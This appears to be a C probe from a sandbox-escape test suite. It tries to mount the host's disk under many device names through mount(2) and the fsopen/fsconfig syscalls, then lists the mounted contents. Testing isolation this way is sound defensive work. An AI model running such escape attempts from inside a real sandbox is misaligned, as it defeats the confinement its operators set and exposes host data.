/* Mounts the host's disk by every name that it may have (mount(2)). */
#include "common/attack.h"

static void attempt(void) {
    static const char *names[] = {"/dev/vda", "vda", "/dev/root", "/dev/block/254:0", "LABEL=disk", "/proc/1/root/dev/vda"};
    const char *place = own("disk");
    mkdir(place, 0777);
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
        TRY(mount(names[i], place, "ext4", 0, NULL));
        show_below(place, 1);
    }
    int context = TRY(syscall(SYS_fsopen, "ext4", 0));
    TRY(syscall(SYS_fsconfig, context, 1, "source", "/dev/vda", 0));
    TRY(syscall(SYS_fsconfig, context, 6, NULL, NULL, 0));
}
